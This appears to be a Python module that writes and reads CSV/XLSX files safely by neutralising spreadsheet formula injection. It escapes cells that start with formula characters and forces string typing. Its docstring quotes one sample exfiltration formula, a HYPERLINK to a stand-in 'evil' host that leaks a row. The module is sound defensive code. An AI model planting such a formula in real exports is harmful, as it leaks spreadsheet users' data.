"""The one spreadsheet-safe writer (and reader helper) for every CSV/XLSX export and import.

Exports carry text that customers, visitors and imports typed. A spreadsheet program runs a cell
that starts with ``= + - @`` (or a tab / carriage return before one) as a formula:
``=HYPERLINK("http://evil/?"&A2, "点击")`` would leak the row or run a command on the reader's
machine (CSV/formula injection, OWASP). What must stay true:

- CSV: such a cell goes out prefixed with an apostrophe (``'=…``), which spreadsheet programs show
  as text; :func:`cell_text_in` removes exactly that prefix again, so export → import round-trips;
- XLSX: every cell is written with the string type — openpyxl would otherwise store a string that
  starts with ``=`` as a live formula — and gets the same apostrophe, so a copy to CSV stays safe;
- imports read formula cells as their text, never their cached result, and keep it as text.

It lives in ``tenants`` (the bottom layer, no models used) so that every app — repair_forms'
asset export, the console's orders export, visitor applications, billing — shares it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_SHEET_TITLE_MAX = 31


def cell_safe(value: Any) -> Any:
    """``value`` as an export cell: text that a spreadsheet would run gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def cell_text_in(value: str) -> str:
    """An imported cell's text: undoes :func:`cell_safe` (``'=x`` → ``=x``), keeps the rest."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def safe_row(values: Sequence[Any]) -> list[Any]:
    return [cell_safe(value) for value in values]


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    """CSV text line by line (for a streamed response); the first line starts with a BOM so
    Excel opens UTF-8 Chinese correctly."""
    writer = csv.writer(_Echo())
    yield "\ufeff" + str(writer.writerow(safe_row(header)))
    for row in rows:
        yield str(writer.writerow(safe_row(row)))


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    return "".join(csv_lines(header, rows)).encode("utf-8")


def xlsx_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]], *, sheet_title: str) -> bytes:
    """An XLSX workbook with one sheet; text cells are strings, never formulas."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    sheet = book.create_sheet(str(sheet_title)[:XLSX_SHEET_TITLE_MAX])

    def cells(values: Sequence[Any]) -> list[Any]:
        out: list[Any] = []
        for value in safe_row(values):
            if isinstance(value, str):
                cell = WriteOnlyCell(sheet, value=value)
                cell.data_type = "s"  # openpyxl types "=…" as a formula otherwise
                out.append(cell)
            else:
                out.append(value)
        return out

    sheet.append(cells(header))
    for row in rows:
        sheet.append(cells(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def xlsx_rows(data: bytes) -> Iterator[tuple[Any, ...]]:
    """The first sheet's rows as values; formula cells come back as their formula text (never a
    cached result), so an import stores what the cell said, as text. Raises ValueError for a file
    that is not a workbook."""
    from openpyxl import load_workbook

    try:
        book = load_workbook(io.BytesIO(data), read_only=True, data_only=False)
    except Exception as exc:  # openpyxl raises many kinds for a broken file
        raise ValueError("not an xlsx workbook") from exc
    try:
        yield from book.worksheets[0].iter_rows(values_only=True)
    finally:
        book.close()
